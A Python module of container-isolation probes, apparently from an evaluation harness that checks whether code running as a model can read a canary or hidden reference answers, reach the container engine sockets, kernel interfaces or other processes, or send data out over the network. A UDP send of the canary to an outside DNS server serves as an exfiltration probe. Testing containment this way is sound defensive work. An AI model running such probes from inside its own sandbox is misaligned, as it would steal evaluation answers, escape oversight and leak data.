"""Attacks that look for what a model must not see, or reach somebody."""

from __future__ import annotations

import contextlib
import ctypes
import gzip
import io
import os
import signal
import socket
import stat
from pathlib import Path

from request import CANARY, MIB, attempt, call


def holds(content):
    """Whether bytes hold the canary, packed or not, forwards or backwards."""
    for text in (CANARY, CANARY[::-1], CANARY.upper()):
        if text in content:
            return True
    if content[:2] == b"\x1f\x8b":
        with contextlib.suppress(Exception):
            return holds(gzip.GzipFile(fileobj=io.BytesIO(content)).read(64 * MIB))
    return False


def search(roots):
    """Names and contents with the canary below some folders, and how much was read."""
    hits, read = [], 0
    for root in roots:
        for folder, folders, files in os.walk(root):
            folders[:] = [name for name in folders if folder != "/" or name not in ("proc", "sys")]
            for name in (*files, *folders):
                path = os.path.join(folder, name)
                if CANARY in os.fsencode(path):
                    hits.append(path)
            for name in files:
                path = os.path.join(folder, name)
                with contextlib.suppress(OSError, ValueError):
                    status = os.lstat(path)
                    if stat.S_ISREG(status.st_mode):
                        with open(path, "rb") as file:
                            content = file.read(64 * MIB)
                        read += 1
                        if holds(content):
                            hits.append(path)
    return {"hits": hits, "read": read}


def snoop(request):
    """Read everything that can be read, and the environment."""
    # the packages are those of the base image, which every model has
    roots = ["/input", "/output", "/opt/model", "/opt/ml", "/tmp", "/etc", "/home", "/root", "/run"]
    roots += ["/dev", "/mnt", "/media", "/srv", "/var", "/data"]
    found = search(roots)
    found["hits"] += [name for name, text in os.environ.items() if holds(f"{name}={text}".encode())]
    request.write()
    request.say(notes=found)


def snoop_proc(request):
    """Read all of /proc and /sys that opens, and the attributes of files."""
    hits, read = [], 0
    names = ["mounts", "mountinfo", "environ", "cmdline", "maps", "status", "cgroup", "net/unix"]
    names += ["keys", "root/etc/hostname", "cwd", "fdinfo", "limits", "sched_debug"]
    paths = [f"/proc/{pid}/{name}" for pid in os.listdir("/proc") for name in names]
    paths += [
        f"/proc/{name}" for name in ("keys", "key-users", "partitions", "diskstats", "vmstat")
    ]
    paths += ["/proc/kcore", "/proc/kallsyms", "/dev/mem", "/dev/kmsg", "/proc/timer_list"]
    paths += [str(path) for path in Path("/sys/fs/cgroup").glob("*")][:200]
    for path in paths:
        with contextlib.suppress(OSError, ValueError):
            with open(path, "rb", buffering=0) as file:
                os.set_blocking(file.fileno(), False)
                content = file.read(MIB) or b""
            read += 1
            if holds(content):
                hits.append(path)
    for path in Path("/input").rglob("*"):
        for name in os.listxattr(path):
            if holds(os.getxattr(path, name)):
                hits.append(f"{path} {name}")
    request.write()
    request.say(notes={"hits": hits, "read": read})


def guess_paths(request):
    """Open references where they might be: beside the input, by the mount table, through /proc."""
    tables = Path("/proc/self/mountinfo").read_text()
    sources = [line.split()[3] for line in tables.splitlines()]
    guesses = ["/references", "/input/../references", "/input/references", "/reference", "/labels"]
    guesses += ["/input/../input", "/opt/ml/input/data/ground_truth", "/workspace", "/data"]
    guesses += ["/mnt", "/host", "/work"]
    guesses += [source for source in sources if source not in ("/", "/input")]
    for pid in ("1", "self", str(os.getppid())):
        guesses += [f"/proc/{pid}/root/work", f"/proc/{pid}/cwd/..", f"/proc/{pid}/root/../.."]
        for number in range(20):
            guesses.append(f"/proc/{pid}/fd/{number}/..")
    found = {"hits": [], "read": 0}
    for guess in dict.fromkeys(guesses):
        if os.path.realpath(guess) not in ("/", "/proc"):
            part = search([guess])
            found["hits"] += part["hits"]
            found["read"] += part["read"]
    request.write()
    request.say(notes=found)


def engine_socket(request):
    """Reach the engine or another service by a socket."""
    notes = {}
    for path in (
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
        "\0/containerd-shim",
        "/run/dbus/system_bus_socket",
    ):
        notes["unix " + path.replace("\0", "@")] = attempt(
            lambda: socket.socket(socket.AF_UNIX).connect(path)
        )
    table = Path("/proc/net/unix").read_text().splitlines()[1:]
    notes["abstract"] = "done" if any("@" in line for line in table) else "none"
    notes["raw"] = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    notes["packet"] = attempt(lambda: socket.socket(17, socket.SOCK_RAW))
    request.write()
    request.say(notes=notes)


def kernel_doors(request):
    """Reach the host of a virtual machine, and interfaces of the kernel with many past errors."""
    notes = {
        "vsock": attempt(lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 22))),
        "io_uring": attempt(lambda: call(425, 1, ctypes.create_string_buffer(120))),
        "key ring": attempt(lambda: call(250, 0, -5, 0)),
    }
    request.write()
    request.say(notes=notes)


def network(request):
    """Reach anything by the network."""

    def tcp(host, port):
        return attempt(lambda: socket.create_connection((host, port), 1).close())

    notes = {
        f"tcp {host}": tcp(host, port)
        for host, port in (
            ("1.1.1.1", 53),
            ("169.254.169.254", 80),
            ("172.17.0.1", 2375),
            ("10.0.2.2", 22),
            ("::ffff:1.1.1.1", 53),
            ("fe80::1", 80),
            ("127.0.0.1", 2375),
        )
    }
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    notes["udp"] = attempt(lambda: udp.sendto(CANARY, ("8.8.8.8", 53)) and None)
    notes["dns"] = attempt(lambda: socket.getaddrinfo("example.com", 80))
    request.write()
    request.say(notes=notes)


def ptrace(request):
    """Look into other processes, and send signals to them."""
    notes = {"seen": [int(name) for name in os.listdir("/proc") if name.isdigit()]}
    notes["others"] = [pid for pid in notes["seen"] if pid not in (1, os.getpid())]
    notes["kill 0"] = attempt(lambda: os.kill(99999, signal.SIGKILL))
    notes["ptrace"] = attempt(lambda: call(101, 16, os.getppid() or 1, 0, 0))
    request.write()
    request.say(notes=notes)


ATTACKS = {
    "snoop": snoop,
    "snoop-proc": snoop_proc,
    "guess-paths": guess_paths,
    "engine-socket": engine_socket,
    "kernel-doors": kernel_doors,
    "network": network,
    "ptrace": ptrace,
}
